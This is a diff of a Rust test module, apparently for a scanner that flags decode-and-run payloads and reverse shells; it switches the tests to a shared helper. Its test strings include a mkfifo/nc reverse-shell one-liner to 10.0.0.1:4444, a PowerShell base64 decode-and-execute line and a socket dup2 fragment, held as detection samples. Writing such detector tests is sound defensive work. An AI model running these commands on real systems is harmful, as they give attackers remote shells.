@@ -118,15 +118,7 @@ pub fn reverse_shell_at(text: &Text, at: usize) -> Option<Span> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::security::{Lead, Theme};
-    use crate::text::Source;
-    use std::sync::Arc;
-
-    fn text(words: &str) -> Option<Text> {
-        let source = Source::new("run.txt", words);
-        let theme = Arc::new(Theme::new("", "", &source));
-        Text::look(&source, "run.txt", None, &theme)
-    }
+    use crate::security::{Lead, text_of};
 
     #[test]
     fn decoded_programs_that_run_are_seen() {
@@ -147,7 +139,7 @@ mod tests {
             "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
             &format!("powershell -nop -enc {}", "SQBFAFgA".repeat(8)),
         ] {
-            let text = text(words).unwrap();
+            let text = text_of("run.txt", words).unwrap();
             assert!(
                 text.leads(Lead::Decode)
                     .any(|at| decoded_run_at(&text, at).is_some()),
@@ -169,7 +161,7 @@ mod tests {
             "String.fromCharCode(97 + i)",
             "payload = base64.b64decode(token)\nprint(exec_time)",
         ] {
-            if let Some(text) = text(words) {
+            if let Some(text) = text_of("run.txt", words) {
                 assert!(
                     text.leads(Lead::Decode)
                         .all(|at| decoded_run_at(&text, at).is_none()),
@@ -187,7 +179,7 @@ mod tests {
             "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
             "s.connect((h, p)); os.dup2(s.fileno(), 0)",
         ] {
-            let text = text(words).unwrap();
+            let text = text_of("run.txt", words).unwrap();
             assert!(
                 text.leads(Lead::ReverseShell)
                     .any(|at| reverse_shell_at(&text, at).is_some()),
@@ -199,7 +191,7 @@ mod tests {
             "timeout 1 bash -c '</dev/tcp/db/5432'",
             "nc -vz host 80",
         ] {
-            if let Some(text) = text(words) {
+            if let Some(text) = text_of("run.txt", words) {
                 assert!(
                     text.leads(Lead::ReverseShell)
                         .all(|at| reverse_shell_at(&text, at).is_none()),
